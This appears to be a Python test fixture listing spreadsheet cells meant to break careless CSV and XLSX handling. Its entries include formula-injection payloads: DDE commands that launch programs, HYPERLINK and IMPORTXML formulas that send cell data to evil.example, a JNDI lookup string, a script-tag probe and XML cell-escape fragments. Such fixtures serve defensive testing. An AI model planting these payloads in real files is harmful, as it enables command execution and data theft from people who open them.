"""Cells that were meant to do harm, or that break what reads them carelessly."""

CELLS = (
    "=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=WEBSERVICE(\"http://evil.example/\")", "-1", "+1", "=", "@", "|cmd", "%0A=1+1",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\x01=1+1", "\x0b\x0c@x", "\u3000＝1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1+1", "'=1+1", "''", "\"=1+1\"", "\"", "a\"b", "a,b;c\td|e", "a\nb", "a\r\nb", "a\rb", ";=1+1", ",=1+1",
    "\"\r\n=1+1", "x\",=1+1,\"", "a\n=1+1\n+2", "김하나\n박둘", "👩‍👩‍👧‍👦 🇰🇷 e\u0301 \u0000 끝", "אבג مرحبا", "A" * 30_000,
    "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "_x0041_", "1e5", "00123", "2026-11-22", "1/2", "TRUE",
    "http://evil.example/", "mailto:a@b.example", "file:///etc/passwd", "internal:Sheet1!A1", "{=1+1}", "x" * 200 + "\n" * 50, "끝 \\ \\\\ ",
    '<r></r></is></c><c r="A9"><f>1+1</f></c><c r="B9" t="inlineStr"><is><r></r>', "<r><t>x</t></r>", "]]>", "<![CDATA[=1+1]]>",
)
